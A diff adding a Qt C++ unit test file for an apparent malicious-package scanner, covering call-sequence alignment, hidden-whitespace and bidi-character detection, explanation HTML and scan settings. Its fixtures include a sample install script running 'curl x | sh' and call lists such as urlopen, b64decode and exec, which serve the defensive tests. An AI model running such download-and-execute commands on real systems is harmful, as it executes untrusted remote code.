@@ -1,0 +1,129 @@
+// What the side-by-side view and the explanation compute: call comparison and alignment, layout markers, the
+// explanation text, script views, and scan options from the settings.
+#include "call_alignment.h"
+#include "explanation_html.h"
+#include "layout_markers.h"
+#include "scan_fixture.h"
+#include "script_view.h"
+#include "workbench_settings.h"
+
+#include <QTest>
+
+using namespace mph::app;
+
+namespace {
+std::vector<mph::CallToken> calls(std::initializer_list<const char *> names) {
+    std::vector<mph::CallToken> result;
+    for (const char *name : names)
+        result.push_back({name, 0, 0});
+    return result;
+}
+} // namespace
+
+class TestCodeHelpers : public QObject {
+    Q_OBJECT
+  private slots:
+    void comparison() {
+        const auto left = calls({"os.system", "open", "request.urlopen", "exec"});
+        const auto right = calls({"request.urlopen", "base64.b64decode", "exec", "os.system"});
+        const CallComparison c = compareCalls(left, right);
+        QCOMPARE(c.sharedLeft, (std::vector<bool>{true, false, true, true}));
+        QCOMPARE(c.sharedRight, (std::vector<bool>{true, false, true, true}));
+        // LCS = urlopen, exec
+        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, -1}, {1, -1}, {2, 0}, {-1, 1}, {3, 2}, {-1, 3}}));
+        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{3, -1, 0, 2})); // os.system: not aligned, first by name
+        QCOMPARE(c.counterpartOfRight, (std::vector<int>{2, -1, 3, 0}));
+    }
+
+    void comparisonWithEmptySide() {
+        const CallComparison c = compareCalls(calls({"exec"}), {});
+        QCOMPARE(c.sharedLeft, (std::vector<bool>{false}));
+        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, -1}}));
+        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{-1}));
+    }
+
+    void alignmentCapLeavesTheRestAsGaps() {
+        const CallComparison c = compareCalls(calls({"a", "b", "c"}), calls({"a", "b", "c"}), 2);
+        QCOMPARE(c.alignment, (std::vector<AlignedPair>{{0, 0}, {1, 1}, {2, -1}, {-1, 2}}));
+        QCOMPARE(c.counterpartOfLeft, (std::vector<int>{0, 1, 2}));
+    }
+
+    void layoutMarkers() {
+        const QString hidden = QStringLiteral("x = 1") + QString(130, QLatin1Char(' ')) + QStringLiteral("exec(p)");
+        const QString text = QStringLiteral("import os\n") + QString(201, QLatin1Char('a')) + QStringLiteral("\n") +
+                             hidden + QStringLiteral("\r\nok = 1\n") + QStringLiteral("s = 'abc\u202Edef'\n") +
+                             QStringLiteral("t = 1\u200B\n");
+        const std::vector<LayoutMarker> markers = findLayoutMarkers(text);
+        const std::vector<LayoutMarker> expected{
+            {1, 200, LayoutIssue::LongLine},
+            {2, 135, LayoutIssue::HiddenPastWhitespace},
+            {4, 8, LayoutIssue::BidiControl},
+            {5, 5, LayoutIssue::ControlCharacter},
+        };
+        QCOMPARE(markers, expected);
+    }
+
+    void layoutMarkersIgnoreOrdinaryCode() {
+        const QString text = QStringLiteral("\uFEFFdef f():\n\treturn 'ünïcode'  # fine\n") +
+                             QString(119, QLatin1Char(' ')) + QStringLiteral("x\n");
+        QVERIFY(findLayoutMarkers(text).empty());
+        QVERIFY(findLayoutMarkers(QString()).empty());
+    }
+
+    void explanationNamesTheParts() {
+        const auto scan = mph::test::makeScanFixture();
+        const QString html = explanationHtml(*scan, 0);
+        QVERIFY(html.contains(QStringLiteral("alpha 1.0: alpha-1.0/setup.py")));
+        QVERIFY(html.contains(QStringLiteral("0.9125")));
+        QVERIFY(html.contains(QStringLiteral("0.1250")));
+        QVERIFY(html.contains(QStringLiteral("<code>os.system</code>")));
+        QVERIFY(html.contains(QStringLiteral("evil 6.6: evil-6.6/setup.py")));
+        QVERIFY(html.contains(QStringLiteral("request.urlopen"))); // the known side of the alignment
+        const QString noKnown = explanationHtml(*scan, 2);
+        QVERIFY(noKnown.contains(QStringLiteral("No known-malicious script to compare with.")));
+        QVERIFY(explanationHtml(*scan, 99).isEmpty());
+    }
+
+    void scriptViews() {
+        const auto scan = mph::test::makeScanFixture();
+        const ScriptTextSource texts(scan, {"infected"});
+        const ScriptView alpha = makeScriptView(*scan, texts, 0);
+        QCOMPARE(alpha.title, QStringLiteral("alpha 1.0: alpha-1.0/setup.py"));
+        QCOMPARE(alpha.text, QByteArray("import os\nos.system('curl x | sh')\n"));
+        QCOMPARE(alpha.text.mid(alpha.calls[0].begin, alpha.calls[0].end - alpha.calls[0].begin),
+                 QByteArray("os.system"));
+        QVERIFY(alpha.error.isEmpty());
+        // The known package's text was dropped and its archive does not exist: a clear error, no text.
+        const ScriptView evil = makeScriptView(*scan, texts, 4);
+        QVERIFY(evil.text.isEmpty());
+        QVERIFY(!evil.error.isEmpty());
+        QCOMPARE(evil.calls.size(), std::size_t(2));
+    }
+
+    void scanOptionsFromSettings() {
+        WorkbenchSettings settings;
+        settings.backgroundFolders = {QStringLiteral("/data/benign"), QStringLiteral(" ")};
+        settings.knownFolders = {QStringLiteral("/data/known")};
+        settings.passphrases = {QStringLiteral("infected"), QStringLiteral("s3cret")};
+        const mph::ScanOptions options = scanOptionsForFolder(QStringLiteral("/data/batch/"), settings);
+        QCOMPARE(options.batches.size(), std::size_t(1));
+        QCOMPARE(options.batches[0].name, std::string("/data/batch"));
+        QCOMPARE(options.batches[0].roots, (std::vector<std::filesystem::path>{"/data/batch"}));
+        QCOMPARE(options.background, (std::vector<std::filesystem::path>{"/data/benign"}));
+        QCOMPARE(options.known, (std::vector<std::filesystem::path>{"/data/known"}));
+        QCOMPARE(options.passphrases, (std::vector<std::string>{"infected", "s3cret"}));
+        QVERIFY(!options.demo);
+        QVERIFY(demoScanOptions().demo);
+
+        WorkbenchSettings recent;
+        for (int i = 0; i < 12; ++i)
+            recent.addRecent(QStringLiteral("/f%1").arg(i));
+        recent.addRecent(QStringLiteral("/f5/"));
+        QCOMPARE(recent.recentFolders.size(), WorkbenchSettings::kMaxRecent);
+        QCOMPARE(recent.recentFolders.first(), QStringLiteral("/f5"));
+        QCOMPARE(recent.recentFolders.count(QStringLiteral("/f5")), 1);
+    }
+};
+
+QTEST_GUILESS_MAIN(TestCodeHelpers)
+#include "tst_code_helpers.moc"
